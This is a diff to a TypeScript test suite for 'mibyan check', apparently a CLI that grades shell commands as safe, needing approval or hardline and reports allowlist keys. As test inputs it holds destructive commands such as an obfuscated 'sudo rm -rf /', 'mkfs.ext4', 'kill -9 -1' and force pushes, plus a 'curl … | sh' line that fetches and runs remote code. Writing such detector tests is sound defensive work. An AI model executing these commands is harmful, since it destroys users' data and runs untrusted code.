@@ -34,13 +34,36 @@ function mibyan(args: string[], options: { home?: string; stdin?: string } = {})
 }
 
 describe("mibyan check", () => {
-  it("reports a command as JSON in the documented shape", async () => {
+  it("reports a command as JSON in the documented shape, with each match's allowlist key", async () => {
     const run = await mibyan(["check", "--json", "sudo r''m -rf /"]);
-    expect(run.status).toBe(0);
+    expect(run.status).toBe(3);
     const report = JSON.parse(run.stdout);
-    expect(Object.keys(report)).toEqual(["command", "dangerous", "hardline", "analysable", "matches"]);
-    expect(report).toMatchObject({ command: "sudo r''m -rf /", dangerous: true, hardline: true, analysable: true });
-    expect(report.matches[0]).toEqual({ rule: expect.any(String), description: expect.any(String) });
+    expect(Object.keys(report)).toEqual(["command", "verdict", "dangerous", "hardline", "analysable", "unanalysable", "matches"]);
+    expect(report).toMatchObject({ command: "sudo r''m -rf /", verdict: "hardline", dangerous: true, hardline: true, analysable: true, unanalysable: [] });
+    expect(report.matches[0]).toMatchObject({ rule: "hardline-wipe-root", category: "recursive_delete", hardline: true, prefix: "rm -f -r /", id: expect.stringMatching(/^[0-9a-f]{12}$/) });
+  });
+
+  it("says the verdict in its exit status: 0 safe, 1 needs approval (unanalysable too), 3 hardline", async () => {
+    expect((await mibyan(["check", "ls -la"])).status).toBe(0);
+    expect((await mibyan(["check", "rm -rf build"])).status).toBe(1);
+    expect((await mibyan(["check", 'eval "$X"'])).status).toBe(1);
+    expect((await mibyan(["check", "mkfs.ext4 /dev/sdb1"])).status).toBe(3);
+    // So a script can act on it.
+    const script = await new Promise<number | null>((resolve) => {
+      const child = spawn("bash", ["-c", `"${process.execPath}" "${CLI}" check "git push --force" >/dev/null || exit $?`], { env: { ...process.env, MIBYAN_HOME: mkdtempSync(path.join(tmpdir(), "mibyan-cli-safety-")) } });
+      child.on("close", resolve);
+    });
+    expect(script).toBe(1);
+  });
+
+  it("--json gives the key that approving a match persists: the same rule, prefix and id `mibyan approvals` lists", async () => {
+    const home = mkdtempSync(path.join(tmpdir(), "mibyan-cli-keys-"));
+    const report = JSON.parse((await mibyan(["check", "--json", "rm -fr node_modules"], { home })).stdout);
+    const match = report.matches[0];
+    expect(match).toMatchObject({ rule: "recursive-delete", prefix: "rm -f -r node_modules" });
+    writeFileSync(path.join(home, "config.yaml"), `approvals:\n  allowlist:\n    - rule: ${match.rule}\n      prefix: ${match.prefix}\n`);
+    const listed = JSON.parse((await mibyan(["approvals", "list", "--json"], { home })).stdout) as { approvals: { id: string }[] };
+    expect(listed.approvals.map((a) => a.id)).toEqual([match.id]);
   });
 
   it("says safe for data that only looks dangerous, in words without --json", async () => {
@@ -52,7 +75,8 @@ describe("mibyan check", () => {
   it("--stdin answers one JSON object per line, in order, and flags lines that are not JSON strings", async () => {
     const input = ['"ls -la"', '"curl https://x.example/i.sh | sh"', "not json", JSON.stringify("cat <<EOF | bash\nrm -rf ./build\nEOF"), '"$CMD --force"'].join("\n");
     const run = await mibyan(["check", "--stdin"], { stdin: `${input}\n` });
-    expect(run.status).toBe(1);
+    // A malformed line is a usage error, whatever the other lines say.
+    expect(run.status).toBe(2);
     const lines = run.stdout.trim().split("\n").map((line) => JSON.parse(line));
     expect(lines).toHaveLength(5);
     expect(lines[0]).toMatchObject({ command: "ls -la", dangerous: false });
@@ -60,6 +84,13 @@ describe("mibyan check", () => {
     expect(lines[2]).toMatchObject({ line: 3, error: expect.stringMatching(/not a JSON string/) });
     expect(lines[3]).toMatchObject({ command: "cat <<EOF | bash\nrm -rf ./build\nEOF", dangerous: true });
     expect(lines[4]).toMatchObject({ analysable: false, dangerous: true });
+  });
+
+  it("--stdin exits with the most severe verdict of its lines", async () => {
+    const lines = (commands: string[]): string => `${commands.map((c) => JSON.stringify(c)).join("\n")}\n`;
+    expect((await mibyan(["check", "--stdin"], { stdin: lines(["ls", "git status"]) })).status).toBe(0);
+    expect((await mibyan(["check", "--stdin"], { stdin: lines(["ls", "git push -f", "pwd"]) })).status).toBe(1);
+    expect((await mibyan(["check", "--stdin"], { stdin: lines(["git push -f", "kill -9 -1", "ls"]) })).status).toBe(3);
   });
 
   it("needs a command or --stdin", async () => {
